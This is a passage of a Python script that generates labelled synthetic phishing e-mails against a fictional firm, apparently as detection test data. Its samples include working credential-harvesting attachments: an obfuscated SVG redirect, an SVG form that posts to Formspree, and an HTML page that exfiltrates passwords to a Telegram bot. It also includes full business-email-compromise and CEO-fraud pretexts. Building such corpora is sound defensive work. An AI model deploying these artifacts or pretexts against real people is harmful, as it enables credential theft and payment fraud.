    "Fake Microsoft Teams 'missed messages' notification from teams-mail-notify.com (VPS, SPF only) naming the CFO as the "
    "sender; the link is a compromised WordPress theme path fronting a Rockstar 2FA kit.",
    frm=("Microsoft Teams", "noreply@teams-mail-notify.com"), to=["sprice"], date="2024-12-03 15:18:27",
    subject="You have 3 missed messages from Dana Whitfield",
    via=v_esp("hwsrv-1187204.hostwindsdns.com", "142.11.206.53", "noreply@teams-mail-notify.com", [], "<{h}@teams-mail-notify.com>",
              origin="Received: from localhost (localhost [127.0.0.1])\n\tby hwsrv-1187204.hostwindsdns.com (Postfix) with ESMTPSA id {h}\n\tfor <{rcpt}>; {t}"),
    body=card("Microsoft Teams", "#464eb8", "You have 3 missed messages",
              ["<b>Dana Whitfield</b> sent messages in chat:", '<span style="color:#605e5c;">"Samantha, can you look at the board deck '
               'before 3? Need the Q4 numbers updated..."</span><br><span style="color:#605e5c;">"Also sent you the file, let me know"</span>'],
              ("Reply in Teams", "https://riverbendfloristmn.com/wp-content/themes/twentytwenty/assets/chat.php?uid=c3ByaWNl&m=3"),
              "You're receiving this email because you have unread messages in Microsoft Teams.<br>" + MS_FOOT, b="php"))

SVG_VM = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">\n'
          '<rect width="420" height="120" rx="8" fill="#f2f2f2"/><circle cx="50" cy="60" r="26" fill="#0078d4"/>'
          '<polygon points="42,46 42,74 66,60" fill="#fff"/>\n<text x="95" y="55" font-family="Segoe UI" font-size="16">Voice Message (00:52)</text>\n'
          '<text x="95" y="80" font-family="Segoe UI" font-size="12" fill="#666">Click to play</text>\n<script type="text/javascript"><![CDATA[\n'
          'var k="amhvbGxvd2F5QGNvcmxpc3NoYXJib3IuY29t";var p=["aHR0cHM6Ly92bS1wbGF5YmFjay","5jbG91ZC1hdWRpby5ydS9saXN0ZW4v"];\n'
          'window.location.href=atob(p.join(""))+"?vm="+Date.now()+"#"+k;\n]]></script>\n</svg>\n')
add("voicemail-svg", "phish", "phishing",
    "Voicemail lure from a compromised accounting firm's Google Workspace mailbox with an SVG 'audio player' attachment whose "
    "embedded script redirects the browser to a Russian-hosted Microsoft login clone with the victim's address.",
    frm=("Voice Services", "office@ridgelineaccounting.com"), to=["jholloway"], date="2025-03-04 16:44:12",
    subject="Voice Message Received (00:52) - Caller +1 (567) 555-0148", attach=True,
    via=v_esp("mail-pj1-f45.google.com", "209.85.216.45", "office@ridgelineaccounting.com", [("ridgelineaccounting.com", "google")],
              "<CAH{r}@mail.gmail.com>", ["MIME-Version: 1.0"], "Received: by mail-pj1-f45.google.com with SMTP id 98e67ed59e1d1-2fe9d5a2b4cso1193377a91.2\n        for <{rcpt}>; {t}", ),
    otz=-480, body=mixed("gm", gmail(["You have a new voice message.", "Caller: +1 (567) 555-0148\nDuration: 00:52\nTime: 03/04/2025 11:38 AM",
                                     "Open the attached audio file to listen."]),
                        att("image/svg+xml", "VM_Playback_0304_5670148.svg", SVG_VM.encode())))

SVG_FORM = ('<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%">\n<foreignObject width="100%" height="100%">\n'
            '<div xmlns="http://www.w3.org/1999/xhtml" style="font-family:Segoe UI,Arial;background:#f3f2f1;height:100%;padding-top:60px;">\n'
            '<div style="width:360px;margin:auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)">\n'
            '<div style="color:#217346;font-weight:600;font-size:20px">Excel Online</div>\n'
            '<p>Invoice_MTF-20931.xlsx is protected. Verify your email account to view the document.</p>\n'
            '<form action="https://formspree.io/f/xqkvbnza" method="POST">\n'
            '<input type="email" name="email" value="praman@corlissharbor.com" style="width:100%;padding:6px"/><br/><br/>\n'
            '<input type="password" name="password" placeholder="Password" style="width:100%;padding:6px"/><br/><br/>\n'
            '<button type="submit" style="background:#217346;color:#fff;border:0;padding:8px 30px">View Document</button>\n'
            '</form></div></div>\n</foreignObject>\n</svg>\n')
add("invoice-svg-embedded-form", "phish", "phishing",
    "Invoice from an outlook.com address with a vendor's display name (Midwest Tire & Fleet) carrying an SVG attachment that "
    "renders an 'Excel Online' login form posting the password to a Formspree endpoint.",
    frm=("Midwest Tire & Fleet - AR", "midwesttirefleet.ar@outlook.com"), to=["praman"], date="2025-07-22 13:33:09",
    subject="Past due invoice MTF-20931 - 2nd notice", attach=True, via=v_outlookcom(),
    body=mixed("ol", outlook(["Hello,", "Our records show invoice MTF-20931 ($8,412.66) for fleet tire service is now 30 days past due. "
                              "Please see attached invoice and remit payment at your earliest convenience.", "Regards,"],
                             "Accounts Receivable\nMidwest Tire & Fleet Service"),
               att("image/svg+xml", "Invoice_MTF-20931.svg", SVG_FORM.encode())))

TG_HTML = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Sign in to your account</title></head>\n"
           "<body style=\"font-family:'Segoe UI';background:#eef2f5\"><div style=\"width:400px;margin:90px auto;background:#fff;padding:40px\">\n"
           "<img src=\"https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg\" alt=\"Microsoft\">\n"
           "<h2 style=\"font-weight:600\">Enter password</h2><p>Because you're accessing sensitive info, you need to verify your password.</p>\n"
           "<div id=\"u\">praman@corlissharbor.com</div><input id=\"pw\" type=\"password\" placeholder=\"Password\" style=\"width:100%\">\n"
           "<button onclick=\"go()\" style=\"background:#0067b8;color:#fff;border:0;padding:8px 32px\">Sign in</button></div>\n"
           "<script>\nvar t='7420981156:AAF3kq9ZtX2pLm8vNc4RwYe7uHs1dJ0oBgQ',c='-1002148836601';\n"
           "function go(){var m='CH-ACH|'+document.getElementById('u').innerText+'|'+document.getElementById('pw').value;\n"
           "fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id='+c+'&text='+encodeURIComponent(m)).then(function(){\n"
           "window.location='https://www.office.com/'});}\n</script></body></html>\n")
add("remittance-html-telegram", "phish", "phishing",
    "ACH remittance e-mail from a compromised pallet supplier's cPanel mailbox (sent from a Nigerian IP) with an .htm "
    "attachment that is a local Microsoft password page exfiltrating the password to a Telegram bot.",
    frm=("Tri-State Pallet Payments", "payments@tristatepallet.com"), to=["praman"], date="2024-04-18 09:52:17",
    subject="ACH Payment Remittance - Corliss Harbor - 04/18/2024", attach=True,
    via=v_esp("cp-11.webhostbox.net", "162.215.253.104", "payments@tristatepallet.com", [("tristatepallet.com", "default")],
              "<{h}@tristatepallet.com>", ["X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
                                           "X-AntiAbuse: Primary Hostname - cp-11.webhostbox.net",
                                           "X-Authenticated-Sender: cp-11.webhostbox.net: payments@tristatepallet.com"],
              "Received: from [102.89.47.211] (port=51234 helo=[192.168.8.101])\n\tby cp-11.webhostbox.net with esmtpsa  (TLS1.2) "
              "tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <payments@tristatepallet.com>)\n\tid 1rxQ7a-00Fz3q-1T\n\tfor {rcpt}; {t}"),
    otz=-240, body=mixed("php", plain("Hello,\n\nAn ACH payment has been sent to your account. Please find the remittance "
                                      "details attached.\n\nThank you,\nTri-State Pallet Co.\nAccounts Department\n"),
                         att("text/html", "ACH_Remittance_CorlissHarbor_0418.htm", TG_HTML.encode())))


def gl_thread(a: str, b: str):
    return [dict(frm="Priya Raman <praman@corlissharbor.com>", sent=a, to="Carla Brennan <cbrennan@glsteelfab.com>",
                 cc="James Fitzgerald <jfitzgerald@corlissharbor.com>", subject="RE: Invoice 88231 / PO 45-1187 - Corliss Harbor",
                 paras=["Hi Carla,", "Thanks, we have 88231 and 88264 approved and scheduled for the next check run.", "Priya"]),
            dict(frm="Carla Brennan <cbrennan@glsteelfab.com>", sent=b, to="Priya Raman <praman@corlissharbor.com>",
                 subject="Invoice 88231 / PO 45-1187 - Corliss Harbor",
                 paras=["Good morning Priya,", "Attached are invoices 88231 and 88264 for the embed plates and anchor bolt "
                        "assemblies shipped against PO 45-1187. Please let me know if you need anything else.",
                        "Thank you,\nCarla Brennan\nAccounts Receivable\nGreat Lakes Steel Fabricators"])]


GL_LETTER = ["GREAT LAKES STEEL FABRICATORS, LLC", "4180 Industrial Parkway, Monroe, MI 48161", "", "August 26, 2024", "",
             "RE: Change of Remittance Information", "", "Dear Valued Customer,", "",
             "Please be advised that effective immediately all payments to Great Lakes Steel Fabricators",
             "should be remitted by ACH to our new account below. Our previous account is no longer active.", "",
             "Bank: Cadence Bank, N.A.", "Account name: Great Lakes Steel Fabricators LLC",
             "Routing (ABA): 062206295   Account: 8840217736", "",
             "Please update your records before releasing the next payment.", "", "Carla Brennan, Accounts Receivable"]
add("vec-bank-change-compromised", "phish", "phishing",
    "Vendor e-mail compromise: the steel fabricator's real mailbox (passes all checks) replies inside a genuine invoice "
    "thread asking AP to pay the two open invoices to a new bank account, with a PDF 'change of remittance' letter and no link.",
    frm=("Carla Brennan", "cbrennan@glsteelfab.com"), to=["praman"], cc=["jfitzgerald"], date="2024-08-27 14:11:38",
    subject="RE: Invoice 88231 / PO 45-1187 - Corliss Harbor", attach=True, replies=2,
    hdrs=["In-Reply-To: <PH0PR12MB51407A2C9E0B1D3F4A6E8C21D3A72@PH0PR12MB5140.namprd12.prod.outlook.com>",
          "References: <BY5PR19MB38826D1F0A4C2E7B9D3F5A1C8E241@BY5PR19MB3882.namprd19.prod.outlook.com>\n"
          " <PH0PR12MB51407A2C9E0B1D3F4A6E8C21D3A72@PH0PR12MB5140.namprd12.prod.outlook.com>"],
    via=v_m365("glsteelfab.com"),
    body=mixed("ol", outlook(["Hi Priya,", "Thank you for the update. Before the check run please note we have changed banks and are "
                              "no longer accepting checks. Kindly remit 88231 and 88264 by ACH to the new account on the attached "
                              "letter and send me the remittance once released.",
                              "Please confirm once your records are updated so I can let our controller know."],
                             "Thank you,\nCarla Brennan\nAccounts Receivable\nGreat Lakes Steel Fabricators",
                             gl_thread("Monday, August 26, 2024 4:02 PM", "Monday, August 26, 2024 9:15 AM")),
               att("application/pdf", "GLSF_Remittance_Change_Letter.pdf", files.pdf(GL_LETTER, title="Change of Remittance"))))
add("vec-bank-change-lookalike", "phish", "phishing",
    "Thread hijack from the look-alike glsteelfabs.com (extra 's', attacker Microsoft 365 tenant, passes its own checks): "
    "the quoted history is a real statement-of-account thread and the reply asks AP to hold payment pending new bank details.",
    frm=("Carla Brennan", "cbrennan@glsteelfabs.com"), to=["praman"], cc=[("James Fitzgerald", "jfitzgerald@corlissharbor.com")],
    date="2025-05-14 13:47:02", subject="RE: Statement of account - April 2025", replies=1,
    hdrs=["In-Reply-To: <BY5PR19MB3882C41E7A2D9F0B3E5C6A8D1F372@BY5PR19MB3882.namprd19.prod.outlook.com>",
          "References: <BY5PR19MB3882C41E7A2D9F0B3E5C6A8D1F372@BY5PR19MB3882.namprd19.prod.outlook.com>"],
    via=v_m365("glsteelfabs.com", onms="glsteelfabs", region="namprd13"),
    body=outlook(["Hi Priya,", "Thanks for confirming the April statement. Please hold the payment for invoices 90412 and 90455 for "
                  "now. Our current bank account is under routine audit and we will be sending our updated remittance details "
                  "shortly.", "Kindly confirm you have put the payment on hold and let me know the expected payment date so I can "
                  "update our controller."],
                 "Thank you,\nCarla Brennan\nAccounts Receivable\nGreat Lakes Steel Fabricators",
                 [dict(frm="Priya Raman <praman@corlissharbor.com>", sent="Tuesday, May 13, 2025 3:28 PM",
                       to="Carla Brennan <cbrennan@glsteelfab.com>", subject="RE: Statement of account - April 2025",
                       paras=["Hi Carla,", "Statement reconciles on our side. 90412 and 90455 are due on the 20th.", "Thanks,\nPriya"]),
                  dict(frm="Carla Brennan <cbrennan@glsteelfab.com>", sent="Tuesday, May 13, 2025 10:05 AM",
                       to="Priya Raman <praman@corlissharbor.com>", subject="Statement of account - April 2025",
                       paras=["Hi Priya,", "Please find our April statement attached for your review.", "Thank you,\nCarla"])]))
add("ceo-giftcards-freemail", "phish", "phishing",
    "CEO fraud from a Gmail address with the CEO's display name asking his assistant to buy Apple gift cards for 'clients' "
    "and send photos of the codes; no link or attachment.",
    frm=("Marcus Oyelaran", "m.oyelaran.exec@gmail.com"), to=["sprice"], date="2024-02-06 15:04:52",
    subject="Quick favor", via=v_gmail(),
    body=gmail(["Samantha,", "Are you at your desk? I'm stuck in back to back meetings and can't take calls. I need you to pick up "
                "some Apple gift cards for a few clients as a thank you, 10 cards at $200 each. I'll reimburse you today.",
                "Once you get them, scratch the back and send me clear pictures of the codes here. Keep this between us for now, "
                "it's a surprise.", "Thanks,\nMarcus\n\nSent from my iPhone"]))
add("ceo-wire-lookalike", "phish", "phishing",
    "CEO wire fraud to the CFO from corlissharbor-co.com (attacker tenant, passes its own SPF/DKIM) about a confidential "
    "acquisition, with a Reply-To on another domain; no link, asks for a same-day $248,600 wire.",
    frm=("Marcus Oyelaran", "moyelaran@corlissharbor-co.com"), to=["dwhitfield"], date="2025-12-09 16:37:21",
    subject="Confidential - Project Lakeshore", hdrs=["Reply-To: Marcus Oyelaran <m.oyelaran@execoffice-mail.com>"],
    via=v_m365("corlissharbor-co.com", onms="corlissharborco"),
    body=outlook(["Dana,", "We are in the final stage of the Lakeshore acquisition and I need your help with the deposit today. "
                  "Outside counsel (Whitman Reyes LLP) will send the escrow wiring instructions within the hour. The amount is "
                  "$248,600 and it must go out before the 4 PM cutoff.",
                  "This is strictly confidential until the announcement. Please do not discuss it internally, including with "
                  "James, and reply to me directly here. I'm in meetings with the board and can only email.",
                  "Can you confirm you are available to process this?"], "Marcus\n\nSent from my iPhone"))
add("payroll-diversion-freemail", "phish", "phishing",
    "Payroll diversion: an outlook.com address using an engineer's name asks payroll to change his direct deposit before "
    "the next run; plain conversational text, no link.",
    frm=("Luis Ortega", "luis.ortega.pe@outlook.com"), to=["klindqvist"], date="2025-03-18 13:26:40",
    subject="Direct Deposit Update", via=v_outlookcom(),
    body=outlook(["Hi Karen,", "I recently switched banks and I would like to update my direct deposit information before the next "
                  "payroll. Can you make the change for me or send me what you need? I can send the new account and routing number "
                  "right away.", "Thank you,\nLuis"]))
add("helpdesk-password-ipfs", "phish", "phishing",
    "Fake help-desk password-expiry notice using a 'corlissharbor.com.' subdomain prefix on itsupport-desk.net; the link is an "
    "IPFS gateway page carrying the user's address in the fragment.",
    frm=("Corliss Harbor Helpdesk", "helpdesk@corlissharbor.com.itsupport-desk.net"), to=["ktran"], date="2024-06-25 12:19:05",
    subject="Password expiration notice - 1 day remaining",
    via=v_esp("vps4412.itsupport-desk.net", "5.181.80.117", "helpdesk@corlissharbor.com.itsupport-desk.net",
              [("itsupport-desk.net", "default")], "<{h}@itsupport-desk.net>", ["X-Priority: 1 (Highest)"],
              "Received: from itsupport-desk.net (localhost [127.0.0.1])\n\tby vps4412.itsupport-desk.net (Postfix) with ESMTPA id {h}\n\tfor <{rcpt}>; {t}", ctry="LT"),
    body=card("Corliss Harbor IT Service Desk", "#1f3864", "Your password expires in 24 hours",
              ["Hello ktran,", "The password for your account <b>ktran@corlissharbor.com</b> will expire on <b>06/26/2024</b>.",
               "You can keep using your current password by validating it below. After expiry you will be unable to access email "
               "until you contact the service desk."],
              ("Keep Same Password", "https://ipfs.io/ipfs/bafybeihx3b6k2ctf4zq7y5uvl4kq2mgsn3ts7f6oqe5vhcw2yx5ztqk3fu/index.html#ktran@corlissharbor.com"),
              "IT Service Desk &middot; This is an automated message", b="php", font="Arial,sans-serif"))


# ---- help desk, legal, callback, genuine-service abuse
add("mailbox-migration-google-amp", "phish", "phishing",
    "Fake IT 'mailbox migration' notice from mailcorp-support.com via Amazon SES; the validate link is a google.com/amp/s/ "
    "open redirect to a Firebase web.app credential page.",
    frm=("IT Service Desk", "servicedesk@mailcorp-support.com"), to=["lortega"], date="2025-08-26 14:05:33",
    subject="Mailbox Migration: Action Required by Thursday, Aug 28",
    via=v_esp("a8-64.smtp-out.amazonses.com", "54.240.8.64", "01000198e7a3b1c2-d4e5f6a7-b8c9-4d0e-9f1a-2b3c4d5e6f70-000000@amazonses.com",
              [("mailcorp-support.com", "x5b7n2q9r4t6w8y1z3c5v7b9m2k4j6h8"), ("amazonses.com", "6gbrjpgwjskckoa6a5zn6fwqkn67xbtw")],
              "<01000198e7a3b1c2-{g}-000000@email.amazonses.com>", ["Feedback-ID: ::1.us-east-1.x5b7n2q9r4t6w8y1z3c5=:AmazonSES"]),
    body=card("Microsoft Exchange Online", "#0f6cbd", "Your mailbox is scheduled for migration",
              ["Hello Luis,", "Your mailbox <b>lortega@corlissharbor.com</b> is scheduled to be migrated to the new Exchange Online "
               "datacenter on <b>August 28, 2025</b>. To prevent loss of email, calendar items and contacts, validate your account "
               "before the migration window.", "Mailbox size: 49.2 GB of 50 GB &nbsp;|&nbsp; Migration batch: NAM-EXO-0828"],
              ("Validate Mailbox", "https://www.google.com/amp/s/mbx-migrate-portal.web.app/validate?u=bG9ydGVnYUBjb3JsaXNzaGFyYm9yLmNvbQ"),
              "Exchange Online Migration Team &middot; Do not reply to this message.", b="java"))
add("subpoena-dropbox-link", "phish", "phishing",
    "Fake subpoena duces tecum to the general counsel from a look-alike law-firm domain (attacker Microsoft 365 tenant); the "
    "'secure copy' is a genuine Dropbox file link whose PDF points to a credential page.",
    frm=("Gregory Whitman", "gwhitman@whitmanreyes-law.com"), to=["acoleman"], date="2025-01-30 17:51:48",
    subject="Subpoena Duces Tecum - Case No. 2025-CV-00418 - Corliss Harbor Logistics & Engineering",
    via=v_m365("whitmanreyes-law.com", onms="whitmanreyeslaw", region="namprd20"),
    body=outlook(["Ms. Coleman,", "Please be advised that our office has been retained in the above-referenced matter pending in the "
                  "Court of Common Pleas, Lucas County, Ohio. Enclosed is a Subpoena Duces Tecum directed to Corliss Harbor Logistics "
                  "& Engineering, Inc. for the production of documents relating to fleet maintenance records and driver logs for "
                  "the period January 2023 through December 2024.",
                  "Due to the confidential nature of the filing the subpoena is provided through our secure document portal:\n"
                  "https://www.dropbox.com/scl/fi/x7q2m9k4v1c8n3b6z5a0d/Subpoena_CorlissHarbor_2025-CV-00418.pdf?rlkey=p9w3t6y1u4i7o0a2s5d8f1g4h&st=k2j5h8g1&dl=0",
                  "Production is due within fourteen (14) days of service. Please acknowledge receipt of this notice."],
                 "Gregory A. Whitman, Esq.\nWhitman Reyes LLP\n600 Superior Ave E, Suite 1300, Cleveland, OH 44114\n(216) 555-0137"))
add("teams-support-callback", "phish", "phishing",
    "Fake 'Microsoft Teams Support' security notice with no link at all: it claims spam flooding and a suspicious sign-in and "
    "tells the user to call a phone number or accept a call from a 'Teams technician' (remote-access vishing).",
    frm=("Microsoft Teams Support", "support@teams-supportcenter.com"), to=["mgonzalez"], date="2025-10-14 14:26:58",
    subject="Security Alert: Unusual activity detected on your Microsoft Teams account",
    via=v_esp("mail.teams-supportcenter.com", "45.143.201.66", "", [("teams-supportcenter.com", "mail")],
              "<{h}@teams-supportcenter.com>", origin="Received: from [127.0.0.1] (unknown [45.143.201.66])\n\tby mail.teams-supportcenter.com (Postfix) with ESMTPSA id {h}\n\tfor <{rcpt}>; {t}",
              ctry="NL"),
    body=card("Microsoft Teams", "#5b5fc7", "Unusual activity detected",
              ["Hello Maria,", "Our systems detected a large volume of spam messages directed at your mailbox and a sign-in attempt "
               "from an unrecognized device (Lagos, NG). To protect your account, Microsoft Teams Support will contact you today "
               "through Teams to apply a security update.",
               "If you prefer, call the Microsoft Teams security line now at <b>+1 (888) 604-1937</b> (available 24/7) and provide "
               "reference <b>MST-77420-Q</b>.", "Please do not ignore this message. Accounts not verified within 12 hours will be "
               "temporarily suspended."],
              None, "Microsoft Teams Support Center", b="php"))
add("paypal-invoice-callback", "phish", "phishing",
    "Genuine PayPal invoice (service@paypal.com, passes DKIM/DMARC) created by a fraudster merchant: the note claims a $599.99 "
    "'Microsoft Defender' renewal and gives a phone number to dispute it (callback scam).",
    frm=("service@paypal.com", "service@paypal.com"), to=["jfitzgerald"], date="2024-10-22 18:40:15",
    subject="Billing Department sent you an invoice ($599.99 USD)",
    via=v_esp("mx0.slc.paypal.com", "173.0.84.226", "service@paypal.com", [("paypal.com", "pp-dkim1")],
              "<{h}.{t}@paypal.com>", ["X-PP-REQUESTED-TIME: 1729622415069", "X-Email-Type-Id: PPX001069",
                                       "X-XPT-XSL-Name: nodeMailer"]),
    body=card("PayPal", "#003087", "Billing Department sent you an invoice",
              ["<b>Amount due: $599.99 USD</b><br>Invoice number: 0931<br>Due on receipt",
               "<b>Note from seller:</b> Thank you for renewing Microsoft Defender Business Protection (3 years, 5 devices). "
               "The amount will be charged to your account within 24 hours. If you did not authorize this purchase, call our "
               "billing helpline immediately at +1 (844) 752-0931 to cancel and get a refund."],
              ("View and Pay Invoice", "https://www.paypal.com/invoice/p/#INV2-7K4Q-9ZRM-3XDV-WB2N"),
              "Don't recognize this invoice? Report it to PayPal.<br>Copyright &copy; 1999-2024 PayPal, Inc. All rights reserved. "
              "PayPal is located at 2211 N. First St., San Jose, CA 95131.", b="java", font="Helvetica Neue,Arial,sans-serif"))


def invite(summary: str, desc: str, organizer: tuple, attendee: tuple, start: str, uid: str, location: str) -> bytes:
    d = desc.replace("\n", "\\n").replace(",", "\\,")
    lines = ["BEGIN:VCALENDAR", "PRODID:-//Google Inc//Google Calendar 70.9054//EN", "VERSION:2.0", "CALSCALE:GREGORIAN",
             "METHOD:REQUEST", "BEGIN:VEVENT", f"DTSTART:{start}", f"DTEND:{start[:9]}{int(start[9:11]) + 1:02d}{start[11:]}",
             f"DTSTAMP:{start}", f"ORGANIZER;CN={organizer[0]}:mailto:{organizer[1]}", f"UID:{uid}",
             f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={attendee[1]}:mailto:{attendee[1]}",
             "CREATED:" + start, f"DESCRIPTION:{d}", f"LOCATION:{location}", "SEQUENCE:0", "STATUS:CONFIRMED",
             f"SUMMARY:{summary}", "TRANSP:OPAQUE", "END:VEVENT", "END:VCALENDAR"]
    out = []
    for ln in lines:
        while len(ln) > 74:
            out.append(ln[:74])
            ln = " " + ln[74:]
        out.append(ln)
    return ("\r\n".join(out) + "\r\n").encode()


ICS_DESC = ("All site supervisors and managers are required to complete the Q4 Safety & Compliance attestation before the review "
            "meeting.\nComplete the attestation (Microsoft sign-in required): https://q4-review-corlissharbor.netlify.app/attest?id=gmahoney\n"
            "Agenda and OSHA 300 summary are available in the same portal.")
ics = invite("Mandatory: Q4 Safety & Compliance Review", ICS_DESC, ("EHS Compliance", "ehs@safetycompliance-hub.com"),
             USERS["gmahoney"], "20250918T150000Z", "5q2v8k1m3n6b9x4z7c0a@google.com", "Microsoft Teams Meeting")
add("calendar-invite-ics", "phish", "phishing",
    "Calendar invitation (text/calendar REQUEST plus .ics) from a fake EHS compliance sender; the event description carries "
    "a Netlify-hosted 'attestation' page that asks for the Microsoft 365 password.",
    frm=("EHS Compliance", "ehs@safetycompliance-hub.com"), to=["gmahoney"], date="2025-09-16 12:10:37",
    subject="Invitation: Mandatory: Q4 Safety & Compliance Review @ Thu Sep 18, 2025 11am - 12pm (EDT) (gmahoney@corlissharbor.com)",
    attach=True,
    via=v_esp("mail-sor-f73.google.com", "209.85.220.73", "ehs@safetycompliance-hub.com", [("safetycompliance-hub.com", "google")],
              "<calendar-{g}@google.com>", ["MIME-Version: 1.0", "Sender: Google Calendar <calendar-notification@google.com>"]),
    body=mixed("gm", Multi("alternative", "gm", [
        text("You have been invited to the following event.\n\nMandatory: Q4 Safety & Compliance Review\nThursday Sep 18, 2025 11am - 12pm (EDT)\n\n"
             + ICS_DESC + "\n\nInvitation from Google Calendar\n"),
        text("<html><body><div style=\"font-family:Roboto,Arial\"><h2>Mandatory: Q4 Safety &amp; Compliance Review</h2>"
             "<p>Thursday Sep 18, 2025 &middot; 11am &ndash; 12pm (Eastern Time - New York)</p><p>" + linkify(ICS_DESC).replace("\n", "<br>")
             + "</p><p><a href=\"https://calendar.google.com/calendar/event?action=RESPOND&amp;eid=NXEydjhrMW0zbjZiOXg0ejdjMGE&amp;rst=1\">Yes</a> "
             "&middot; Maybe &middot; No</p></div></body></html>\n", "html"),
        Leaf("text/calendar", ics.replace(b"\r\n", b"\n"), "7bit", '; charset="UTF-8"; method=REQUEST')]),
        Leaf("application/ics", ics, "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"')))
add("google-docs-comment-abuse", "phish", "phishing",
    "Genuine Google Docs comment notification (docs.google.com, passes) from an attacker's Google account named after a "
    "colleague; the comment text mentioning the engineer contains the phishing link to a fake bid-package portal.",
    frm=("Luis Ortega (Google Docs)", "comments-noreply@docs.google.com"), to=["edunleavy"], date="2024-09-10 13:58:02",
    subject="Riverside Distribution Center - Bid Package (Rev 3)", hdrs=["Reply-To: Luis Ortega <luisortega.pe.bids@gmail.com>"],
    via=v_esp("mail-sor-f69.google.com", "209.85.220.69", "3cWvgZgcKBVs0A4-2B4z0E80-37y5A4Dv2AB.y8C1E5Az0.z2y1z4FD4@docos.bounces.google.com",
              [("docs.google.com", "20230601")], "<{r}@docs.google.com>", ["MIME-Version: 1.0"]),
    body=card("Google Docs", "#1a73e8", "Luis Ortega mentioned you in a comment",
              ["<b>Riverside Distribution Center - Bid Package (Rev 3)</b>",
               '<span style="background:#fef7e0;">"Structural takeoffs and addendum 2"</span>',
               "<b>Luis Ortega</b>: @edunleavy@corlissharbor.com please review the revised steel and foundation takeoffs before "
               "Friday. Full drawing set is on the bid portal: https://bidpkg-review.com/riverside-dc/?u=edunleavy (sign in with your "
               "company email)"],
              ("Open", "https://docs.google.com/document/d/1vQ8kT3mZp2LxR7nW4yB6cH9jF0sD5gA1eU3iO8tY2wE/edit?disco=AAABOq7Vx2k&usp=comment_email_document"),
              "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because you are "
              "mentioned in this thread.", b="gm", font="Roboto,Arial,sans-serif"))
add("youtube-redirect-shared-file", "phish", "phishing",
    "Shared-workbook notice from a compromised marine-services Microsoft 365 mailbox; the link runs through YouTube's "
    "redirect endpoint to an EvilProxy page on a .cfd domain.",
    frm=("Harborview Marine Accounting", "accounting@harborviewmarine.com"), to=["jfitzgerald"], date="2024-12-17 20:14:44",
    subject="Fwd: Shared Document - Corliss Harbor Q4 Vendor Payments.xlsx",
    via=v_m365("harborviewmarine.com"),
    body=outlook(["Hello,", "A secure document has been shared with you: Corliss Harbor Q4 Vendor Payments.xlsx (3 pages).",
                  "View document:\nhttps://www.youtube.com/redirect?event=comments&redir_token=QUFFLUhqbWZ6dDJ4eEFQa3Y5&q=https%3A%2F%2Fdoc-view-secure.cfd%2Fxl%2F%3Fauth%3DamZpdHpnZXJhbGQ&html_redirect=1",
                  "Regards,"], "Accounts Department\nHarborview Marine Services"))
add("rate-confirmation-dat", "phish", "phishing",
    "Freight-broker rate confirmation sent to dispatch from a fake brokerage domain via Zoho; the 'view on DAT' link is a "
    "look-alike DAT One login page that steals load-board credentials.",
    frm=("Load Coordinator | Summit Freight Brokerage", "dispatch@summitfreightbrokers.com"), to=["tkaczmarek"],
    date="2025-02-25 15:09:26", subject="Rate Confirmation - Load #SFB-778214 Toledo, OH > Nashville, TN",
    via=v_esp("sender4-op-o12.zoho.com", "136.143.188.12", "dispatch@summitfreightbrokers.com", [("summitfreightbrokers.com", "zmail")],
              "<{h}.{t}@summitfreightbrokers.com>", ["X-Zoho-Virus-Status: 1", "X-Mailer: Zoho Mail"]),
    body=card("Summit Freight Brokerage", "#c0392b", "Rate Confirmation - Load #SFB-778214",
              ["Hi Tom,", "Thanks for covering this one. Please review and sign the rate confirmation so we can dispatch.",
               "<b>Pickup:</b> Toledo, OH 43605 &mdash; 02/26 08:00<br><b>Delivery:</b> Nashville, TN 37210 &mdash; 02/27 06:00<br>"
               "<b>Equipment:</b> 53' Dry Van &nbsp; <b>Weight:</b> 38,500 lbs<br><b>Rate:</b> $2,450.00 all-in",
               "The signed rate con and load details are posted on DAT. Log in with your DAT One account to accept."],
              ("View Rate Con on DAT", "https://one-dat-loadboard.com/rateconfirm/SFB-778214?carrier=corlissharbor"),
              "Summit Freight Brokerage LLC &middot; MC# 1184271 &middot; dispatch@summitfreightbrokers.com", b="java",
              font="Arial,sans-serif"))
add("dropbox-share-rfq-abuse", "phish", "phishing",
    "Genuine Dropbox folder-share notification (dropbox.com, passes) from a throwaway account named like a procurement "
    "contact; the 'RFQ documents' folder holds a PDF that links to a Microsoft credential page.",
    frm=("Daniel Kessler (via Dropbox)", "no-reply@dropbox.com"), to=["rsutter"], date="2025-06-24 15:33:50",
    subject='Daniel Kessler shared "RFQ-2025-117 Crane Services" with you',
    hdrs=["Reply-To: Daniel Kessler <daniel.kessler.rfq@gmail.com>"],
    via=v_esp("mail-2.dropbox.com", "162.125.6.21", "bounces@bounce.dropbox.com", [("dropbox.com", "20250115")],
              "<{h}@dropbox.com>", ["X-Dropbox-Email-Type: shared_folder_invite"]),
    body=card("Dropbox", "#0061fe", "Daniel Kessler shared a folder with you",
              ["Daniel Kessler (daniel.kessler.rfq@gmail.com) invited you to view the folder <b>RFQ-2025-117 Crane Services</b> on Dropbox.",
               '<i>"Please review the attached RFQ and scope of work and submit your proposal by June 30."</i>'],
              ("Go to folder", "https://www.dropbox.com/scl/fo/4n8k2q6v0z3x7c1b5m9l/AKq3Wz8mTn5Rp2Yv7Lx0Bc4?rlkey=m4v8q2k6p0z3x7c1b5n9l2w4r&dl=0"),
              "Enjoy!<br>The Dropbox team<br><br>&copy; 2025 Dropbox, Inc., 1800 Owens St, San Francisco, CA 94158", b="java"))
add("sharepoint-fake-bonus", "phish", "phishing",
